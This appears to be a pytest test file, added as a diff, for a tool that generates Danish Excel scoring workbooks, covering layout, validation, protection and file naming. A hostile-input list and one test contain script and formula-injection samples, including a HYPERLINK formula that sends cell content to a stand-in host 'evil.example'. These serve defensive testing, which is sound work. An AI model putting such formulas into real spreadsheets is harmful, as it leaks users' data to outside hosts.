@@ -1,0 +1,555 @@
+"""The participant scoring workbook: read back with openpyxl AND calamine."""
+
+from __future__ import annotations
+
+import io
+import re
+import zipfile
+from pathlib import Path
+from xml.etree import ElementTree as ET
+
+import openpyxl
+import pytest
+from openpyxl.utils import column_index_from_string, get_column_letter
+from python_calamine import CalamineWorkbook
+
+from scoring_fixtures import FIXED_DEADLINE, fixed_setup, kik_setup, participants
+from xl_kik import scoring
+from xl_kik._version import GENERATOR
+from xl_kik.catalogue import from_data
+from xl_kik.round import Participant
+from xl_kik.scoring import (
+    CUSTOM_PROPERTY_KEYS, FORMAT, META_KEYS, META_SHEET, MAX_TEXT_CHARS, Layout, ScoringTemplate,
+    custom_properties_for, layout_fingerprint, metadata_for, parse_custom_properties,
+    write_scoring_workbooks,
+)
+
+IDA = Participant("D01", "Ida Ørsted", "ida@example.dk")
+HOSTILE_NAMES = [
+    "<script>alert('x')</script> & \"Co\"",
+    '=HYPERLINK("http://evil.example/?q="&A1,"klik")',
+    "+45 12 34 56 78",
+    "@SUM(1)",
+    "-2+3",
+    "_x0041_ Ånd",
+    "Tab\there\nand\x07bell\x00nul",
+    "&P &N &D (header codes) &&",
+    "Zoë 😀 ﬁ \u200b",
+    "A" * 300,
+]
+
+
+@pytest.fixture(scope="module")
+def setup():
+    return kik_setup()
+
+
+@pytest.fixture(scope="module")
+def template(setup):
+    return ScoringTemplate(setup)
+
+
+@pytest.fixture(scope="module")
+def ida_file(template, tmp_path_factory) -> Path:
+    path = tmp_path_factory.mktemp("ida") / "ida.xlsx"
+    path.write_bytes(template.render(IDA))
+    return path
+
+
+@pytest.fixture(scope="module")
+def wb(ida_file):
+    return openpyxl.load_workbook(ida_file)
+
+
+def parts(data: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        assert zf.testzip() is None
+        return {n: zf.read(n) for n in zf.namelist()}
+
+
+def cells(letter_from: str, letter_to: str, rows) -> set[str]:
+    a, b = column_index_from_string(letter_from), column_index_from_string(letter_to)
+    return {f"{get_column_letter(c)}{r}" for c in range(a, b + 1) for r in rows}
+
+
+def sqref_cells(sqref) -> set[str]:
+    out: set[str] = set()
+    for rng in str(sqref).split():
+        if ":" in rng:
+            a, b = rng.split(":")
+            ca, ra = re.match(r"([A-Z]+)(\d+)", a).groups()
+            cb, rb = re.match(r"([A-Z]+)(\d+)", b).groups()
+            out |= cells(ca, cb, range(int(ra), int(rb) + 1))
+        else:
+            out.add(rng)
+    return out
+
+
+# ---------------------------------------------------------------- layout and identity
+def test_layout(template, setup):
+    lay = template.layout
+    assert isinstance(lay, Layout)
+    assert lay.sheet == "Evaluering" and lay.header_row == 6
+    assert (lay.col_qid, lay.col_points, lay.col_strengths, lay.col_improvements, lay.col_ideas) == \
+        ("A", "E", "F", "G", "H")
+    assert lay.questions == setup.question_ids
+    assert len(lay.rows) == 20
+    # one theme header row before each theme's questions
+    assert lay.rows["1.1"] == lay.header_row + 2
+    assert lay.rows["2.1"] == lay.rows["1.3"] + 2
+    assert lay.fingerprint == layout_fingerprint(lay.questions, "A", "E", "F", "G", "H", FORMAT)
+
+
+def test_metadata_sheet_openpyxl_and_calamine(ida_file, wb, template, setup):
+    expected = metadata_for(setup, IDA, template.layout)
+    assert tuple(expected) == META_KEYS
+    ws = wb[META_SHEET]
+    assert ws.sheet_state == "veryHidden"
+    got = {r[0]: r[1] for r in ws.iter_rows(values_only=True)}
+    assert got == expected
+    assert all(c.data_type == "s" for row in ws.iter_rows() for c in row)
+
+    cw = CalamineWorkbook.from_path(str(ida_file))
+    meta_sheet = [s for s in cw.sheets_metadata if s.name == META_SHEET][0]
+    assert "veryhidden" in str(meta_sheet.visible).lower()
+    rows = cw.get_sheet_by_name(META_SHEET).to_python()
+    assert {r[0]: r[1] for r in rows} == expected
+
+    assert expected["format"] == FORMAT
+    assert expected["participant_token"] == setup.token("D01")
+    assert expected["participant_name"] == "Ida Ørsted"
+    assert expected["catalogue_fingerprint"] == setup.catalogue.fingerprint
+    assert (expected["scale"], expected["scale_min"], expected["scale_max"]) == ("0-100", "0", "100")
+    assert expected["generator"] == GENERATOR
+    assert expected["created"] == setup.created.isoformat()
+    assert expected["questions"] == ",".join(setup.question_ids)
+    assert expected["layout_fingerprint"] == layout_fingerprint(
+        expected["questions"].split(","), expected["col_qid"], expected["col_points"],
+        expected["col_strengths"], expected["col_improvements"], expected["col_ideas"], expected["format"])
+
+
+def test_custom_properties(ida_file, wb, template, setup):
+    raw = zipfile.ZipFile(ida_file).read("docProps/custom.xml")
+    props = parse_custom_properties(raw)
+    expected = custom_properties_for(setup, IDA, template.layout)
+    assert props == expected
+    assert set(props) == {"xl_kik_" + k for k in CUSTOM_PROPERTY_KEYS}
+    assert props["xl_kik_participant_token"] == setup.token("D01")
+    # openpyxl sees them too
+    assert {p.name: p.value for p in wb.custom_doc_props.props} == expected
+
+
+def test_sheets_and_order(wb):
+    assert wb.sheetnames == ["Vejledning", "Evaluering", META_SHEET]
+    assert [ws.sheet_state for ws in wb] == ["visible", "visible", "veryHidden"]
+    assert wb.active.title == "Vejledning"
+
+
+def test_hidden_question_id_column(ida_file, wb, template):
+    ws = wb["Evaluering"]
+    lay = template.layout
+    assert ws.column_dimensions["A"].hidden
+    ids = {r: ws[f"A{r}"].value for r in range(lay.header_row + 1, lay.last_row + 1)}
+    for qid, row in lay.rows.items():
+        assert ids[row] == qid
+        assert ws[f"B{row}"].value == qid
+    theme_rows = [r for r, v in ids.items() if v is None]
+    assert len(theme_rows) == 8
+    for r in theme_rows:
+        assert ws[f"B{r}"].value.startswith("Tema ")
+    # calamine reads the same ids
+    sheet = CalamineWorkbook.from_path(str(ida_file)).get_sheet_by_name("Evaluering").to_python(
+        skip_empty_area=False)
+    cal = {i + 1: row[0] for i, row in enumerate(sheet) if row and row[0] not in ("", None)}
+    assert {r: v for r, v in cal.items() if r > lay.header_row} == {r: q for q, r in lay.rows.items()}
+
+
+def test_theme_rows_name_and_side(wb, template, setup):
+    ws = wb["Evaluering"]
+    for theme in setup.catalogue.themes:
+        first_q = setup.catalogue.questions_of(theme.id)[0].id
+        text = ws[f"B{template.layout.rows[first_q] - 1}"].value
+        assert theme.name["da"] in text
+        assert ("indsats" if theme.side == "indsats" else "resultat") in text
+
+
+def test_question_texts_and_bulleted_examples(wb, template, setup):
+    ws = wb["Evaluering"]
+    for q in setup.catalogue.questions:
+        r = template.layout.rows[q.id]
+        assert ws[f"C{r}"].value == q.text["da"]
+        examples = ws[f"D{r}"].value
+        assert examples.split("\n") == [f"• {e}" for e in q.examples["da"]]
+        assert ws[f"D{r}"].alignment.wrap_text and ws[f"C{r}"].alignment.wrap_text
+
+
+# ---------------------------------------------------------------- validation & protection
+def test_points_validation(wb, template):
+    ws = wb["Evaluering"]
+    lay = template.layout
+    dvs = [dv for dv in ws.data_validations.dataValidation if dv.type == "whole"]
+    assert len(dvs) == 2  # enabler and result questions get their own input message
+    covered: set[str] = set()
+    for dv in dvs:
+        assert dv.operator in (None, "between")  # between is the default operator
+        assert (dv.formula1, dv.formula2) == ("0", "100")
+        assert dv.allow_blank is True
+        assert dv.errorStyle in (None, "stop")  # stop is the default style
+        assert dv.showErrorMessage and dv.showInputMessage
+        assert "0" in dv.promptTitle and "100" in dv.promptTitle
+        assert "Tomt felt = ved ikke" in dv.prompt
+        assert "helt tal fra 0 til 100" in dv.error and "ca. " in dv.error
+        assert len(dv.prompt) <= 255 and len(dv.error) <= 255 and len(dv.promptTitle) <= 32
+        covered |= sqref_cells(dv.sqref)
+    assert covered == {f"E{r}" for r in lay.rows.values()}
+    prompts = sorted(dv.prompt for dv in dvs)
+    assert any("Indsats" in p for p in prompts) and any("Resultat" in p for p in prompts)
+
+
+def test_points_validation_other_scale():
+    tpl = ScoringTemplate(kik_setup("0-5"))
+    ws = openpyxl.load_workbook(io.BytesIO(tpl.render(IDA)))["Evaluering"]
+    dvs = [dv for dv in ws.data_validations.dataValidation if dv.type == "whole"]
+    assert {(dv.formula1, dv.formula2) for dv in dvs} == {("0", "5")}
+    assert all("fra 0 til 5" in dv.prompt for dv in dvs)
+
+
+def test_text_validation(wb, template):
+    ws = wb["Evaluering"]
+    lay = template.layout
+    [dv] = [dv for dv in ws.data_validations.dataValidation if dv.type == "textLength"]
+    assert dv.operator == "lessThanOrEqual" and dv.formula1 == str(MAX_TEXT_CHARS)
+    assert dv.allow_blank and dv.showErrorMessage
+    assert "5.000" in dv.error
+    assert sqref_cells(dv.sqref) == cells("F", "H", lay.rows.values())
+
+
+def test_protection_and_unlocked_cells(wb, template):
+    lay = template.layout
+    ev = wb["Evaluering"]
+    for ws in (wb["Vejledning"], ev, wb[META_SHEET]):
+        assert ws.protection.sheet is True
+        assert ws.protection.password is None  # no password: guard-rail only
+    assert ev.protection.formatRows is False  # rows may grow for long text
+    assert ev.protection.formatColumns is not False and ev.protection.insertRows is not False
+    assert ev.protection.deleteRows is not False and ev.protection.formatCells is not False
+    expected = cells("E", "H", lay.rows.values())
+    for ws in wb:
+        unlocked = {c.coordinate for row in ws.iter_rows() for c in row if c.protection.locked is False}
+        assert unlocked == (expected if ws.title == "Evaluering" else set()), ws.title
+        for dim in list(ws.column_dimensions.values()) + list(ws.row_dimensions.values()):
+            style = wb._cell_styles[dim.style_id] if hasattr(dim, "style_id") else None
+            if style is not None and style.protectionId:
+                assert wb._protections[style.protectionId].locked is not False
+
+
+def test_input_cells_wrap_and_rows_may_grow(wb, template):
+    ws = wb["Evaluering"]
+    for r in template.layout.rows.values():
+        for col in "FGH":
+            assert ws[f"{col}{r}"].alignment.wrap_text
+        assert ws[f"E{r}"].number_format == "0"
+    raw = zipfile.ZipFile(io.BytesIO(template.render(IDA))).read("xl/worksheets/sheet2.xml").decode()
+    for r in template.layout.rows.values():
+        row_tag = re.search(rf'<row r="{r}"[^>]*>', raw).group(0)
+        assert "customHeight" not in row_tag  # estimated height, still auto-fit when typing
+
+
+def test_conditional_format_blank_points(wb, template):
+    ws = wb["Evaluering"]
+    rules = [(rng, rule) for rng in ws.conditional_formatting for rule in rng.rules]
+    assert len(rules) == 1
+    rng, rule = rules[0]
+    assert rule.type == "containsBlanks"
+    assert sqref_cells(rng.sqref) == {f"E{r}" for r in template.layout.rows.values()}
+    assert rule.dxf.fill.bgColor.rgb.endswith("FFF2CC")
+
+
+def test_print_setup_and_panes(wb, template, setup):
+    for name, orientation in (("Evaluering", "landscape"), ("Vejledning", "portrait")):
+        ws = wb[name]
+        assert ws.page_setup.orientation == orientation
+        assert str(ws.page_setup.paperSize) == "9"  # A4
+        assert ws.sheet_properties.pageSetUpPr.fitToPage
+        assert ws.page_setup.fitToWidth in (1, None) and ws.page_setup.fitToHeight == 0
+        assert setup.unit in ws.oddHeader.left.text
+        assert ws.oddHeader.right.text == "Ida Ørsted"
+        assert "&P" in ws.oddFooter.right.text or "[Page]" in str(ws.oddFooter.right.text)
+    ev = wb["Evaluering"]
+    assert ev.print_title_rows == "$6:$6"
+    assert ev.freeze_panes == "A7"
+
+
+def test_progress_formula(ida_file, wb, template):
+    ws = wb["Evaluering"]
+    lay = template.layout
+    f = ws["B4"].value
+    assert f == f'=COUNT(E{lay.first_row}:E{lay.last_row})&" af "&20&" besvaret"'
+    # value="" (no cached 0) so LibreOffice computes it on load
+    raw = zipfile.ZipFile(ida_file).read("xl/worksheets/sheet2.xml").decode()
+    assert re.search(r'<c r="B4" s="\d+"><f>[^<]+</f><v></v></c>', raw)
+
+
+def test_progress_formula_evaluates(tmp_path, template):
+    """The formula counts answered points cells (evaluated with the `formulas` package)."""
+    formulas = pytest.importorskip("formulas")
+    path = tmp_path / "filled.xlsx"
+    path.write_bytes(template.render(IDA))
+    wb = openpyxl.load_workbook(path)
+    ws = wb["Evaluering"]
+    rows = list(template.layout.rows.values())
+    ws[f"E{rows[0]}"] = 0
+    ws[f"E{rows[1]}"] = 55
+    ws[f"E{rows[-1]}"] = 100
+    ws[f"F{rows[2]}"] = "tekst tæller ikke"
+    wb.save(path)
+    solution = formulas.ExcelModel().loads(str(path)).finish().calculate()
+    [value] = [v.value for k, v in solution.items() if k.upper().endswith("EVALUERING'!B4")]
+    assert value[0][0] == "3 af 20 besvaret"
+
+
+def test_header_block_and_instructions(wb, setup):
+    ev = wb["Evaluering"]
+    assert ev["B2"].value == "Deltager: Ida Ørsted"
+    assert "15. april 2026" in ev["B3"].value and "ved ikke" in ev["B3"].value
+    ins = wb["Vejledning"]
+    text = " ".join(str(c.value).strip() for row in ins.iter_rows() for c in row if c.value is not None)
+    for needle in ("Hvad er KIK?", "Ida Ørsted", "ved ikke", "15. april 2026", "e-mail", "tovholderen",
+                   "Giv ikke filen et nyt navn", "kopier ikke", "helt tal fra 0 til 100", "Gem filen",
+                   "konsensusseminar", "Deltager 1"):
+        assert needle in text, needle
+    # the band table: every band with its separate enabler and result text
+    rows = [[c.value for c in row[1:4]] for row in ins.iter_rows()]
+    for band in setup.scale.bands:
+        assert [band.label, band.indsats["da"], band.resultat["da"]] in rows
+    assert ["tomt felt", "ved ikke", "ved ikke"] in rows
+
+
+def test_instructions_without_deadline_and_named_answers():
+    tpl = ScoringTemplate(kik_setup(deadline=None, anonymise=False))
+    wb = openpyxl.load_workbook(io.BytesIO(tpl.render(IDA)))
+    text = " ".join(str(c.value) for row in wb["Vejledning"].iter_rows() for c in row if c.value)
+    assert "Tovholderen fortæller dig" in text and "Dit navn står ved dine svar" in text
+    assert "se e-mailen fra tovholderen" in wb["Evaluering"]["B3"].value
+
+
+def test_english(tmp_path):
+    setup = kik_setup(lang="en")
+    tpl = ScoringTemplate(setup)
+    wb = openpyxl.load_workbook(io.BytesIO(tpl.render(IDA)))
+    assert wb.sheetnames == ["Instructions", "Evaluation", META_SHEET]
+    assert tpl.layout.sheet == "Evaluation"
+    ws = wb["Evaluation"]
+    meta = {r[0]: r[1] for r in wb[META_SHEET].iter_rows(values_only=True)}
+    assert meta["lang"] == "en" and meta["sheet"] == "Evaluation"
+    assert ws["B2"].value == "Participant: Ida Ørsted"
+    assert ws["B4"].value.endswith('&" of "&20&" answered"')
+    q = setup.catalogue.question("1.1")
+    assert ws[f"C{tpl.layout.rows['1.1']}"].value == q.text["en"]
+    dv = [dv for dv in ws.data_validations.dataValidation if dv.type == "whole"][0]
+    assert "Empty = don't know" in dv.prompt
+    text = "\n".join(str(c.value) for row in wb["Instructions"].iter_rows() for c in row if c.value)
+    assert "What is KIK?" in text and "15 April 2026" in text and "Do not rename" in text
+
+
+def test_theme_subset():
+    setup = kik_setup(themes=["5", "6", "7", "8"])
+    tpl = ScoringTemplate(setup)
+    assert tpl.layout.questions == ("5.1", "5.2", "6.1", "6.2", "7.1", "7.2", "8.1", "8.2")
+    ws = openpyxl.load_workbook(io.BytesIO(tpl.render(IDA)))["Evaluering"]
+    assert ws["B4"].value == f'=COUNT(E8:E{tpl.layout.last_row})&" af "&8&" besvaret"'
+    # all result questions: only the result input message
+    dvs = [dv for dv in ws.data_validations.dataValidation if dv.type == "whole"]
+    assert len(dvs) == 1 and "Resultat" in dvs[0].prompt
+
+
+# ---------------------------------------------------------------- placeholders and identity
+def test_placeholders_verbatim_in_template_and_gone_after_render(template):
+    tparts = parts(template.template_bytes)
+    ph = template.placeholders
+    sst = tparts["xl/sharedStrings.xml"].decode()
+    for key in ("NAME", "PID", "TOKEN"):
+        assert ph[key] in sst
+    custom = tparts["docProps/custom.xml"].decode()
+    assert ph["PID"] in custom and ph["TOKEN"] in custom
+    for sheet in ("xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"):
+        assert ph["HNAME"] in tparts[sheet].decode()
+    for name, data in parts(template.render(IDA)).items():
+        assert b"XLKIK" not in data, name
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+def test_hostile_names_are_text(tmp_path, template, setup, name):
+    p = Participant("D07", name)
+    data = template.render(p)
+    for part, xml in parts(data).items():
+        if part.endswith(".xml") or part.endswith(".rels"):
+            ET.fromstring(xml)  # well-formed
+    shown = scoring.display_name(p)
+    assert "\x00" not in shown and "\x07" not in shown and "\n" not in shown
+    path = tmp_path / "h.xlsx"
+    path.write_bytes(data)
+    wb = openpyxl.load_workbook(path)
+    ev = wb["Evaluering"]
+    # openpyxl 3.1.5 decodes Excel's escaped "_x005F_x0041_" one level too far ("A");
+    # calamine (what returns.py reads with) and Excel give the literal text.
+    via_openpyxl = {shown, shown.replace("_x0041_", "A")}
+    assert ev["B2"].value in {f"Deltager: {v}" for v in via_openpyxl}
+    assert ev["B2"].data_type == "s"
+    meta = {r[0]: r[1] for r in wb[META_SHEET].iter_rows(values_only=True)}
+    assert meta["participant_name"] in via_openpyxl
+    assert meta["participant_id"] == "D07" and meta["participant_token"] == setup.token("D07")
+    cal = CalamineWorkbook.from_path(str(path))
+    cal_meta = {r[0]: r[1] for r in cal.get_sheet_by_name(META_SHEET).to_python()}
+    assert cal_meta["participant_name"] == shown
+    assert cal.get_sheet_by_name("Evaluering").to_python()[1][1] == f"Deltager: {shown}"
+    header = ev.oddHeader.right.text
+    assert len(header) <= scoring.MAX_HEADER_NAME * 2
+    if "&" not in shown and len(shown) <= scoring.MAX_HEADER_NAME:
+        assert header in via_openpyxl
+
+
+def test_formula_name_is_not_a_formula(tmp_path, template):
+    name = '=HYPERLINK("http://evil.example","klik")'
+    path = tmp_path / "f.xlsx"
+    path.write_bytes(template.render(Participant("D02", name)))
+    sheet2 = zipfile.ZipFile(path).read("xl/worksheets/sheet2.xml").decode()
+    assert "HYPERLINK" not in "".join(re.findall(r"<f>.*?</f>", sheet2))  # never a formula
+    assert openpyxl.load_workbook(path)["Evaluering"]["B2"].value == f"Deltager: {name}"
+    meta = {r[0]: r[1] for r in openpyxl.load_workbook(path)[META_SHEET].iter_rows(values_only=True)}
+    assert meta["participant_name"] == name
+
+
+def test_header_ampersand_is_doubled(template):
+    raw = parts(template.render(Participant("D03", "Bo & Co")))["xl/worksheets/sheet2.xml"].decode()
+    assert "Bo &amp;&amp; Co" in raw
+
+
+def test_files_differ_only_in_identity(template, setup):
+    a, b = Participant("D01", "Ida Ørsted"), Participant("D02", "Bo Ærø")
+    pa, pb = parts(template.render(a)), parts(template.render(b))
+    assert list(pa) == list(pb)
+
+    def neutral(data: bytes, p: Participant) -> bytes:
+        text = data.decode()
+        for value, marker in ((setup.token(p.pid), "@TOKEN@"), (p.name, "@NAME@"), (p.pid, "@PID@")):
+            text = text.replace(value, marker)
+        return text.encode()
+
+    differing = []
+    for name in pa:
+        assert neutral(pa[name], a) == neutral(pb[name], b), name
+        if pa[name] != pb[name]:
+            differing.append(name)
+    assert sorted(differing) == ["docProps/custom.xml", "xl/sharedStrings.xml",
+                                 "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"]
+
+
+def test_render_is_deterministic(template):
+    assert template.render(IDA) == template.render(IDA)
+    assert ScoringTemplate(kik_setup()).render(IDA) == template.render(IDA)
+
+
+def test_placeholder_text_in_catalogue_is_kept():
+    data = {
+        "id": "odd", "version": "1",
+        "themes": [{"id": "1", "side": "indsats", "name": "XLKIKNAMEPH tema"}],
+        "questions": [{"id": "1.1", "theme": "1", "text": "Står der XLKIKNAMEPH og XLKIKPIDPH?"}],
+    }
+    setup = fixed_setup(catalogue=from_data(data))
+    tpl = ScoringTemplate(setup)
+    assert not tpl.placeholders["NAME"].startswith("XLKIKNAME")
+    ws = openpyxl.load_workbook(io.BytesIO(tpl.render(IDA)))["Evaluering"]
+    assert ws[f"C{tpl.layout.rows['1.1']}"].value == "Står der XLKIKNAMEPH og XLKIKPIDPH?"
+    assert ws["B2"].value == "Deltager: Ida Ørsted"
+
+
+def test_participant_without_id_is_refused(template):
+    with pytest.raises(ValueError):
+        template.render(Participant("", "Ida"))
+
+
+def test_empty_name_falls_back_to_id(template):
+    wb = openpyxl.load_workbook(io.BytesIO(template.render(Participant("D09", "  \x01 "))))
+    assert wb["Evaluering"]["B2"].value == "Deltager: D09"
+
+
+# ---------------------------------------------------------------- writing files
+def test_write_scoring_workbooks(tmp_path, setup):
+    ps = participants(4) + [Participant("D05", "Ida Ørsted"), Participant("D06", "CON"),
+                            Participant("D07", "a/b\\c:d*e?"), Participant("D08", "...")]
+    out = write_scoring_workbooks(setup, ps, tmp_path / "udsendt")
+    names = [p.name for _, p in out]
+    assert [p for p, _ in out] == ps
+    assert names[0] == "KIK Ældreplejen Nord - Ida Ørsted.xlsx"
+    assert names[4] == "KIK Ældreplejen Nord - Ida Ørsted (2).xlsx"
+    assert names[5] == "KIK Ældreplejen Nord - CON.xlsx"
+    assert names[6] == "KIK Ældreplejen Nord - a_b_c_d_e_.xlsx"
+    assert names[7] == "KIK Ældreplejen Nord - D08.xlsx"
+    assert len({n.lower() for n in names}) == len(names)
+    assert sorted(x.name for x in (tmp_path / "udsendt").iterdir()) == sorted(names)  # no temp files left
+    for p, path in out:
+        meta = {r[0]: r[1] for r in CalamineWorkbook.from_path(str(path)).get_sheet_by_name(META_SHEET).to_python()}
+        assert meta["participant_id"] == p.pid
+        assert scoring.read_owner(path) == (setup.round_id, p.pid)
+
+
+def test_regenerate_replaces_own_file_but_never_another(tmp_path, setup):
+    outdir = tmp_path / "udsendt"
+    ida, bo = Participant("D01", "Ida"), Participant("D02", "Bo")
+    [(_, first)] = write_scoring_workbooks(setup, [ida], outdir)
+    first.write_bytes(first.read_bytes())  # same content, new mtime
+    [(_, again)] = write_scoring_workbooks(setup, [ida], outdir)
+    assert again == first and len(list(outdir.iterdir())) == 1
+
+    # another participant with the same name: own file, Ida's untouched
+    ida_bytes = first.read_bytes()
+    [(_, other)] = write_scoring_workbooks(setup, [Participant("D03", "Ida")], outdir)
+    assert other.name == "KIK Ældreplejen Nord - Ida (2).xlsx"
+    assert first.read_bytes() == ida_bytes
+
+    # a foreign file (not a scoring workbook) with the target name is never overwritten
+    foreign = outdir / "KIK Ældreplejen Nord - Bo.xlsx"
+    foreign.write_bytes(b"coordinator's own notes")
+    [(_, bo_path)] = write_scoring_workbooks(setup, [bo], outdir)
+    assert bo_path.name == "KIK Ældreplejen Nord - Bo (2).xlsx"
+    assert foreign.read_bytes() == b"coordinator's own notes"
+
+    # a file from another round with the same participant id is not ours either
+    other_round = fixed_setup(round_id="KIK-OTHER", unit=setup.unit, catalogue=setup.catalogue,
+                              scale=setup.scale)
+    [(_, old)] = write_scoring_workbooks(other_round, [Participant("D09", "Åse")], outdir)
+    [(_, new)] = write_scoring_workbooks(setup, [Participant("D09", "Åse")], outdir)
+    assert old != new and scoring.read_owner(old) == ("KIK-OTHER", "D09")
+
+    # regenerating the whole list keeps every participant on their own file
+    again = dict((p.pid, path) for p, path in write_scoring_workbooks(
+        setup, [ida, bo, Participant("D03", "Ida")], outdir))
+    assert again["D01"] == first and again["D03"] == other and again["D02"] == bo_path
+    assert foreign.read_bytes() == b"coordinator's own notes"
+
+
+def test_duplicate_ids_refused(tmp_path, setup):
+    with pytest.raises(ValueError):
+        write_scoring_workbooks(setup, [Participant("D01", "A"), Participant("D01", "B")], tmp_path)
+
+
+def test_failed_write_leaves_no_temp_file(tmp_path, setup, monkeypatch):
+    outdir = tmp_path / "out"
+    outdir.mkdir()
+
+    def boom(src, dst):
+        raise OSError("disk full")
+
+    monkeypatch.setattr(scoring.os, "replace", boom)
+    with pytest.raises(OSError):
+        write_scoring_workbooks(setup, [IDA], outdir)
+    assert list(outdir.iterdir()) == []
+
+
+def test_fixed_setup_deadline_is_shown():
+    tpl = ScoringTemplate(fixed_setup())
+    ws = openpyxl.load_workbook(io.BytesIO(tpl.render(IDA)))["Evaluering"]
+    assert scoring.format_date(FIXED_DEADLINE) in ws["B3"].value
+    # '&' in the unit is doubled in the header (Excel header codes) and shown once
+    assert ws.oddHeader.left.text == "Børnehuset Solsikken & Co" or "&&" in ws.oddHeader.left.text
